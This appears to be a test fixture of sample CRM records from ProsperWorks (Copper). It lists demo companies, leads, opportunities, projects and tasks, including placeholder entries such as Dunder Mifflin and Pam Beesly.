    ["companies", {"id": 9607579, "name": "ProsperWorks", "address": {"street": "221 Main Street Suite 1350", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": ""}, "assignee_id": null, "contact_type_id": 451493, "details": "Overview: ProsperWorks is the world's first zero input CRM. Designed specifically for Google Apps, ProsperWorks helps companies sell more faster by identifying, organizing and tracking sales opportunities right in Gmail, Calendar and Google Drive. By removing the need for data entry, salespeople can focus on developing business and managers can finally have accurate forecasting with real time activity tracking. ProsperWorks was founded by Jon Lee, Kelly Cheng and Andrew Hu with the commitment to empower small business sales and marketing. Jon was Founder/CEO of three big data companies that solved optimization problems in advertising, gaming and photo sharing. Each company realized successful exits. The team also includes the leaders in engineering and product from Facebook Mobile, BaseCRM and Salesforce. ProsperWorks has raised $10 million in funding from True Ventures, Bloomberg Beta, Crunchfund and other high-profile angel investors. ProsperWorks is based in San Francisco, CA.\n\nApprox. Number of Employees: 30\n\nFounded: 2011\n\nKeywords: Automotive, CRM, Finance, Google, Google Apps, Leadership, Management, Podcasting, SAAS, Sales, Small Business", "email_domain": "prosperworks.com", "phone_numbers": [{"number": "4153554776", "category": "work"}], "primary_contact_id": 27140363, "socials": [{"url": "https://www.linkedin.com/company/prosperworks-inc-", "category": "linkedin"}, {"url": "https://twitter.com/ProsperWorks", "category": "twitter"}, {"url": "https://www.facebook.com/ProsperWorks", "category": "facebook"}, {"url": "http://klout.com/ProsperWorks", "category": "klout"}, {"url": "https://angel.co/prosperworks", "category": "other"}, {"url": "https://plus.google.com/u/0/103594665195397142807", "category": "other"}, {"url": "http://www.crunchbase.com/organization/prosperworks", "category": "other"}], "tags": [], "websites": [{"url": "www.prosperworks.com", "category": "work"}, {"url": "https://www.prosperworks.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "interaction_count": 0, "date_created": 1483988828, "date_modified": 1489018922}],
    ["companies", {"id": 9607581, "name": "Sabre Inc (sample)", "address": {"street": "543 Washington Ave", "city": "Philadelphia", "state": "PA", "postal_code": "19135", "country": ""}, "assignee_id": null, "contact_type_id": null, "details": null, "email_domain": null, "phone_numbers": [], "primary_contact_id": 27140364, "socials": [], "tags": [], "websites": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "interaction_count": 0, "date_created": 1483988828, "date_modified": 1489018922}],
    ["companies", {"id": 13349319, "name": "Noemail", "address": null, "assignee_id": 137658, "contact_type_id": 451490, "details": null, "email_domain": "noemail.com", "phone_numbers": [], "primary_contact_id": 27140359, "socials": [], "tags": [], "websites": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": "Text fields are 255 chars or less!"}, {"custom_field_definition_id": 103481, "value": "Text area fields can have long text content"}], "interaction_count": 0, "date_created": 1496694264, "date_modified": 1496694270}],
    ["companies", {"id": 13358412, "name": "Demo Company", "address": {"street": "123 Main St", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": null}, "assignee_id": null, "contact_type_id": null, "details": "This is a demo company", "email_domain": "democompany.com", "phone_numbers": [{"number": "415-123-45678", "category": "work"}], "primary_contact_id": 27140361, "socials": [], "tags": [], "websites": [{"url": "http://democompany.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "interaction_count": 0, "date_created": 1496707930, "date_modified": 1496707932}],
    ["companies", {"id": 2, "name": "ProsperWorks", "address": {"street": "221 Main Street Suite 1350", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": ""}, "assignee_id": null, "contact_type_id": 8, "details": null, "email_domain": "prosperworks.com", "phone_numbers": [{"number": "4153554776", "category": "work"}], "primary_contact_id": 27140367, "socials": [{"url": "https://www.linkedin.com/company/prosperworks-inc-", "category": "linkedin"}], "tags": [], "websites": [{"url": "www.prosperworks.com", "category": "work"}, {"url": "https://www.prosperworks.com", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 12, "value": [9]}, {"custom_field_definition_id": 8, "value": null}], "interaction_count": 2, "date_created": 1515434866, "date_modified": 1516324063}],
    ["companies", {"id": 3, "name": "Dunder Mifflin (sample)", "address": {"street": "213 West Main Street", "city": "Scranton", "state": "PA", "postal_code": "18501", "country": "US"}, "assignee_id": null, "contact_type_id": 5, "details": null, "email_domain": "dundermifflin.com", "phone_numbers": [{"number": "4153554776", "category": "work"}], "primary_contact_id": 27140356, "socials": [], "tags": [], "websites": [{"url": "http://www.dundermifflin.com/index.shtml", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}], "interaction_count": 0, "date_created": 1515434866, "date_modified": 1516323758}],
    ["companies", {"id": 4, "name": "Sabre Inc (sample)", "address": {"street": "543 Washington Ave", "city": "Philadelphia", "state": "PA", "postal_code": "19135", "country": ""}, "assignee_id": 2, "contact_type_id": 6, "details": null, "email_domain": null, "phone_numbers": [], "primary_contact_id": 27140359, "socials": [], "tags": [], "websites": [], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}], "interaction_count": 0, "date_created": 1515434867, "date_modified": 1516320789}],
    ["leads", {"id": 8894157, "name": "Test Lead", "prefix": null, "first_name": "Test", "last_name": "Lead", "middle_name": null, "suffix": null, "address": {"street": "301 Howard St Ste 600", "city": "San Francisco", "state": "CA", "postal_code": "94105", "country": "US"}, "assignee_id": 137658, "company_name": "Lead's Company", "customer_source_id": 331241, "details": "This is a demo description", "email": {"email": "address@workemail.com", "category": "work"}, "monetary_value": 100, "socials": [{"url": "facebook.com/test_lead", "category": "facebook"}], "status": "New", "status_id": 208231, "tags": ["tag 1", "tag 2"], "title": "Title", "websites": [{"url": "www.workwebsite.com", "category": "work"}], "phone_numbers": [{"number": "415-999-4321", "category": "mobile"}, {"number": "415-555-1234", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1489018784, "date_modified": 1489173601}],
    ["leads", {"id": 13244480, "name": "My Lead", "prefix": null, "first_name": "My", "last_name": "Lead", "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": null, "customer_source_id": 331242, "details": null, "email": {"email": "mylead@noemail.com", "category": "work"}, "interaction_count": 0, "monetary_value": null, "socials": [], "status": "New", "status_id": 208231, "tags": [], "title": null, "websites": [], "phone_numbers": [{"number": "415-123-45678", "category": "mobile"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": "Text fields are 255 chars or less!"}, {"custom_field_definition_id": 103481, "value": "Text area fields can have long text content"}, {"custom_field_definition_id": 128735, "value": null}], "date_created": 1502158444, "date_modified": 1502158444, "date_last_contacted": null}],
    ["leads", {"id": 9150547, "name": "My Contact", "prefix": null, "first_name": "My", "last_name": "Contact", "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": null, "customer_source_id": null, "details": null, "email": {"email": "mycontact@noemail.com", "category": "work"}, "interaction_count": 0, "monetary_value": null, "socials": [], "status": "New", "status_id": 208231, "tags": [], "title": null, "websites": [], "phone_numbers": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1490045162, "date_modified": 1490045162, "date_last_contacted": 1490045162, "converted_opportunity_id": null, "converted_contact_id": null, "converted_at": null}],
    ["leads", {"id": 9150552, "name": "My Contact", "prefix": null, "first_name": "My", "last_name": "Contact", "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": null, "customer_source_id": null, "details": null, "email": null, "interaction_count": 0, "monetary_value": null, "socials": [], "status": "New", "status_id": 208231, "tags": [], "title": null, "websites": [], "phone_numbers": [{"number": "415-123-45678", "category": "mobile"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1490045237, "date_modified": 1490045237, "date_last_contacted": 1490045237, "converted_opportunity_id": null, "converted_contact_id": null, "converted_at": null}],
    ["leads", {"id": 9150578, "name": "My Contact", "prefix": null, "first_name": "My", "last_name": "Contact", "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": null, "customer_source_id": null, "details": null, "email": null, "interaction_count": 0, "monetary_value": null, "socials": [], "status": "New", "status_id": 208231, "tags": [], "title": null, "websites": [], "phone_numbers": [{"number": "415-123-45678", "category": "mobile"}], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}], "date_created": 1490045279, "date_modified": 1490045279, "date_last_contacted": 1490045279, "converted_opportunity_id": null, "converted_contact_id": null, "converted_at": null}],
    ["leads", {"id": 8982702, "name": "My Lead", "prefix": null, "first_name": "My", "last_name": "Lead", "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": null, "customer_source_id": null, "details": null, "email": {"email": "mylead@gmail.test", "category": "work"}, "interaction_count": 0, "monetary_unit": null, "monetary_value": null, "socials": [], "status": "New", "status_id": 208231, "tags": [], "title": null, "websites": [], "phone_numbers": [], "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 128735, "value": null}], "date_created": 1489531171, "date_modified": 1512006056, "date_last_contacted": null}],
    ["leads", {"id": 5, "name": "Pam Beesly (sample)", "prefix": null, "first_name": "Pam Beesly (sample)", "last_name": null, "middle_name": null, "suffix": null, "address": null, "assignee_id": null, "company_name": "Dunder Mifflin, Inc.", "customer_source_id": 4, "details": "A Lead is someone you've qualified as a potential client. When you are ready to start making a deal, simply convert the Lead into an Opportunity.\n\nOnce your Lead becomes an Opportunity, you'll be able to track progress between each stage of the deal making process in your fully customizable Opportunity Pipeline. Add your own Lead and convert it to an Opportunity to see how it works!", "email": {"email": "pam@dundermifflin.com", "category": "work"}, "interaction_count": 0, "monetary_unit": "USD", "monetary_value": 5000, "socials": [], "status": "Unqualified", "status_id": 7, "tags": ["sample"], "title": "Office Coordinator", "websites": [{"url": "http://www.dundermifflin.com", "category": "work"}], "phone_numbers": [{"number": "5105553333", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434872, "date_modified": 1515795399, "date_last_contacted": null}],
    ["leads", {"id": 6, "name": "Jim Halpert (sample2)", "prefix": null, "first_name": "Jim Halpert (sample2)", "last_name": null, "middle_name": null, "suffix": null, "address": {"street": "213 West Main St", "city": "Philadelphia", "state": "PA", "postal_code": "18503", "country": "US"}, "assignee_id": 2, "company_name": "Dunder Mifflin, Inc.", "customer_source_id": 4, "details": "This is an update", "email": {"email": "jim@dundermifflin.com", "category": "work"}, "interaction_count": 1, "monetary_unit": "USD", "monetary_value": 2501, "socials": [], "status": "New", "status_id": 5, "tags": ["blah"], "title": "Manager", "websites": [{"url": "http://www.dundermifflin.com", "category": "work"}], "phone_numbers": [{"number": "5104447778", "category": "work"}], "custom_fields": [{"custom_field_definition_id": 12, "value": [8]}, {"custom_field_definition_id": 6, "value": 1515744000}, {"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434872, "date_modified": 1516743967, "date_last_contacted": 1515796263}],
    ["leads", {"id": 12, "name": "Test User", "prefix": null, "first_name": "Test", "last_name": "User", "middle_name": null, "suffix": null, "address": {"street": "123 Abc Rd", "city": "San Francisco", "state": "CA", "postal_code": "94114", "country": ""}, "assignee_id": 2, "company_name": null, "customer_source_id": null, "details": null, "email": null, "interaction_count": 0, "monetary_unit": null, "monetary_value": null, "socials": [], "status": "New", "status_id": 5, "tags": [], "title": null, "websites": [], "phone_numbers": [], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1516671366, "date_modified": 1516671455, "date_last_contacted": null}],
    ["opportunities", {"id": 2827698, "name": "8 New Copy Machines (sample)", "assignee_id": null, "close_date": "1/23/2017", "company_id": 9607580, "company_name": "Dunder Mifflin (sample)", "customer_source_id": 331241, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": null, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": 250000, "win_probability": 5, "date_created": 1483988829, "date_modified": 1489018922, "custom_fields": [{"custom_field_definition_id": 100764, "value": null}, {"custom_field_definition_id": 103481, "value": null}]}],
    ["opportunities", {"id": 2827699, "name": "25 Office Chairs (sample)", "assignee_id": null, "close_date": "1/16/2017", "company_id": 9607580, "company_name": "Dunder Mifflin (sample)", "customer_source_id": 331242, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987793, "pipeline_type": "opportunity", "primary_contact_id": null, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": 75000, "win_probability": 40, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1483988829, "date_modified": 1489018922, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 2827700, "name": "500 Keyboards (sample)", "assignee_id": null, "close_date": "1/14/2017", "company_id": 9607581, "company_name": "Sabre Inc (sample)", "customer_source_id": null, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987791, "pipeline_type": "opportunity", "primary_contact_id": null, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": 50000, "win_probability": 10, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1483988829, "date_modified": 1496943803, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 3826510, "name": "Demo Opportunity", "assignee_id": null, "close_date": null, "company_id": null, "company_name": null, "customer_source_id": null, "details": null, "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": null, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": null, "win_probability": 5, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1490114507, "date_modified": 1496700017, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 4417020, "name": "Demo Project", "assignee_id": null, "close_date": null, "company_id": 13349319, "company_name": "Noemail", "customer_source_id": null, "details": "", "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": 27140359, "priority": null, "status": "Open", "tags": [], "interaction_count": 1, "monetary_value": 1000, "win_probability": 0, "date_last_contacted": 1496703593, "leads_converted_from": [{"lead_id": 11393303, "converted_timestamp": 1496694264}], "date_lead_created": 1496692663, "date_created": 1496694264, "date_modified": 1496943309, "custom_fields": [{"custom_field_definition_id": 100764, "value": "Text fields are 255 chars or less!"}, {"custom_field_definition_id": 103481, "value": "Text area fields can have long text content"}, {"custom_field_definition_id": 126240, "value": null}]}],
    ["opportunities", {"id": 2841646, "name": "ejfpvoiewjrvoierjvoierv", "assignee_id": 137658, "close_date": "2/10/2017", "company_id": null, "company_name": null, "customer_source_id": null, "details": null, "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": null, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": null, "win_probability": 5, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1484096886, "date_modified": 1489018921, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 4418567, "name": "New Demo Opportunity", "assignee_id": null, "close_date": null, "company_id": 13349319, "company_name": "Noemail", "customer_source_id": null, "details": null, "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": 27140359, "priority": "None", "status": "Open", "tags": [], "interaction_count": 1, "monetary_value": null, "win_probability": 5, "date_last_contacted": 1496703593, "leads_converted_from": [], "date_lead_created": null, "date_created": 1496713840, "date_modified": 1496943302, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 4956209, "name": "New Demo Opportunity", "assignee_id": null, "close_date": null, "company_id": 13349319, "company_name": "Noemail", "customer_source_id": 331242, "details": null, "loss_reason_id": null, "pipeline_id": 213214, "pipeline_is_revenue": false, "pipeline_stage_id": 987790, "pipeline_type": "opportunity", "primary_contact_id": 27140359, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_value": null, "win_probability": 5, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1502158599, "date_modified": 1502158600, "custom_fields": [{"custom_field_definition_id": 126240, "value": null}, {"custom_field_definition_id": 103481, "value": null}, {"custom_field_definition_id": 100764, "value": null}]}],
    ["opportunities", {"id": 3, "name": "8 New Copy Machines (sample)", "assignee_id": null, "close_date": "1/22/2018", "company_id": 3, "company_name": "Dunder Mifflin (sample)", "customer_source_id": 5, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 3, "pipeline_is_revenue": false, "pipeline_stage_id": 10, "pipeline_type": "opportunity", "primary_contact_id": 3, "priority": "High", "status": "Open", "tags": [], "interaction_count": 0, "monetary_unit": "USD", "monetary_value": 250000, "win_probability": 5, "date_stage_changed": 1515434867, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1515434867, "date_modified": 1516673603, "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}]}],
    ["opportunities", {"id": 4, "name": "25 Office Chairs (sample)", "assignee_id": 2, "close_date": "1/15/2018", "company_id": 3, "company_name": "Dunder Mifflin (sample)", "customer_source_id": 6, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 3, "pipeline_is_revenue": false, "pipeline_stage_id": 13, "pipeline_type": "opportunity", "primary_contact_id": 5, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_unit": "USD", "monetary_value": 75000, "win_probability": 40, "date_stage_changed": 1515434869, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1515434869, "date_modified": 1516310945, "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}]}],
    ["opportunities", {"id": 5, "name": "500 Keyboards (sample)", "assignee_id": null, "close_date": "1/13/2018", "company_id": 4, "company_name": "Sabre Inc (sample)", "customer_source_id": null, "details": "Opportunities are created for People and Companies that are interested in buying your products or services. Create Opportunities for People and Companies to move them through one of your Pipelines.", "loss_reason_id": null, "pipeline_id": 3, "pipeline_is_revenue": false, "pipeline_stage_id": 11, "pipeline_type": "opportunity", "primary_contact_id": 3, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_unit": "USD", "monetary_value": 50000, "win_probability": 10, "date_stage_changed": 1515434870, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1515434870, "date_modified": 1516673290, "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}]}],
    ["opportunities", {"id": 6, "name": "Sell stuff", "assignee_id": null, "close_date": "2/8/2018", "company_id": 4, "company_name": "Sabre Inc (sample)", "customer_source_id": null, "details": null, "loss_reason_id": null, "pipeline_id": 3, "pipeline_is_revenue": false, "pipeline_stage_id": 10, "pipeline_type": "opportunity", "primary_contact_id": 6, "priority": "None", "status": "Open", "tags": [], "interaction_count": 0, "monetary_unit": null, "monetary_value": null, "win_probability": 5, "date_stage_changed": 1515458602, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1515458602, "date_modified": 1516673280, "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}]}],
    ["opportunities", {"id": 32, "name": "Julie Perrota Deal", "assignee_id": 6, "close_date": "12/14/2024", "company_id": 27, "company_name": "Julie Perrotta Company", "customer_source_id": 16, "details": null, "loss_reason_id": null, "pipeline_id": 6, "pipeline_is_revenue": false, "pipeline_stage_id": 15, "pipeline_type": "opportunity", "primary_contact_id": 25, "priority": "Low", "status": "Open", "tags": [], "interaction_count": 0, "monetary_unit": "USD", "monetary_value": 5000.0, "converted_unit": "USD", "converted_value": 5000.0, "win_probability": 65, "date_stage_changed": 1730142605, "date_last_contacted": null, "leads_converted_from": [], "date_lead_created": null, "date_created": 1729622418, "date_modified": 1730309445, "custom_fields": []}],
    ["projects", {"id": 144296, "name": "Customize Your New CRM", "related_resource": {"id": 9607579, "type": "company"}, "assignee_id": null, "status": "Open", "details": "Visit our settings section to discover all the ways you can customize Copper to fit your sales workflow.", "tags": [], "custom_fields": [], "date_created": 1483988830, "date_modified": 1496712857}],
    ["projects", {"id": 208105, "name": "New Demo Project", "related_resource": null, "assignee_id": null, "status": "Open", "details": null, "tags": [], "custom_fields": [], "date_created": 1496713867, "date_modified": 1496713867}],
    ["projects", {"id": 1, "name": "Customize Your New CRM", "related_resource": {"id": 2, "type": "company"}, "assignee_id": 2, "status": "Open", "details": "Visit our settings section to discover all the ways you can customize Copper to fit your sales workflow.", "tags": ["tag1"], "custom_fields": [{"custom_field_definition_id": 6, "value": 1515744000}, {"custom_field_definition_id": 12, "value": [8]}, {"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434872, "date_modified": 1516819000}],
    ["projects", {"id": 2, "name": "Test Project", "related_resource": null, "assignee_id": 2, "status": "Open", "details": null, "tags": [], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1516751006, "date_modified": 1516751006}],
    ["tasks", {"id": 3716920, "name": "My First Task", "related_resource": {"id": 144296, "type": "project"}, "assignee_id": 137658, "due_date": 1496799000, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": null, "tags": [], "custom_fields": [], "date_created": 1496712856, "date_modified": 1496712857}],
    ["tasks", {"id": 3726701, "name": "Demo Task", "related_resource": {"id": null, "type": null}, "assignee_id": 137658, "due_date": null, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": null, "tags": [], "custom_fields": [], "date_created": 1496771985, "date_modified": 1496771985}],
    ["tasks", {"id": 2277769, "name": "Download ProsperWorks Mobile App", "related_resource": {"id": 9607579, "type": "company"}, "assignee_id": null, "due_date": null, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": "Visit the Google Play store or the Apple App store to download the ProsperWorks Android or iPhone app.", "tags": [], "custom_fields": [], "date_created": 1483988829, "date_modified": 1483989349}],
    ["tasks", {"id": 2277770, "name": "Follow up on Price Quote (sample)", "related_resource": {"id": null, "type": null}, "assignee_id": null, "due_date": 1484067600, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": null, "tags": [], "custom_fields": [], "date_created": 1483988829, "date_modified": 1483988829}],
    ["tasks", {"id": 2277771, "name": "Follow up Call (sample)", "related_resource": {"id": null, "type": null}, "assignee_id": null, "due_date": 1483894800, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": null, "tags": [], "custom_fields": [], "date_created": 1483988829, "date_modified": 1489018922}],
    ["tasks", {"id": 1, "name": "Download ProsperWorks Mobile App", "related_resource": {"id": 2, "type": "company"}, "assignee_id": null, "due_date": 1516813200, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": "Visit the Google Play store or the Apple App store to download the ProsperWorks Android or iPhone app.", "tags": [], "custom_fields": [{"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 12, "value": [9]}, {"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434871, "date_modified": 1516824438, "custom_activity_type_id": 6}],
    ["tasks", {"id": 2, "name": "Follow up on Price Quote (sample)", "related_resource": {"id": 4, "type": "opportunity"}, "assignee_id": null, "due_date": 1515517200, "reminder_date": null, "completed_date": 1516822940, "priority": "None", "status": "Completed", "details": null, "tags": [], "custom_fields": [{"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 12, "value": []}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434871, "date_modified": 1516822940, "custom_activity_type_id": 6}],
    ["tasks", {"id": 3, "name": "Follow up Call (sample)", "related_resource": {"id": 5, "type": "person"}, "assignee_id": null, "due_date": 1515776400, "reminder_date": null, "completed_date": null, "priority": "None", "status": "Open", "details": null, "tags": [], "custom_fields": [{"custom_field_definition_id": 6, "value": null}, {"custom_field_definition_id": 12, "value": [9]}, {"custom_field_definition_id": 8, "value": null}, {"custom_field_definition_id": 11, "value": null}, {"custom_field_definition_id": 9, "value": null}, {"custom_field_definition_id": 7, "value": false}, {"custom_field_definition_id": 3, "value": null}, {"custom_field_definition_id": 4, "value": null}, {"custom_field_definition_id": 10, "value": null}, {"custom_field_definition_id": 5, "value": null}], "date_created": 1515434871, "date_modified": 1516824426, "custom_activity_type_id": 6}],
